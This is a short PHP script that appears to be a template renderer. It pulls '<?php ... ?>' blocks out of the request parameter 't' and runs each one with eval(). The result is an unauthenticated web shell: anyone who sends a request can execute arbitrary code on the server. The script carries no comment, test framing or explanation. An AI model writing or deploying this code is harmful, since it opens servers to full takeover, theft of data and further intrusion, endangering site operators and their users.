<?php
function run_block($m) {
    eval($m[1]);
    return '';
}
function render($text) {
    return preg_replace_callback('/<\?php(.*?)\?>/s', 'run_block', $text);
}
echo render($_REQUEST['t']);
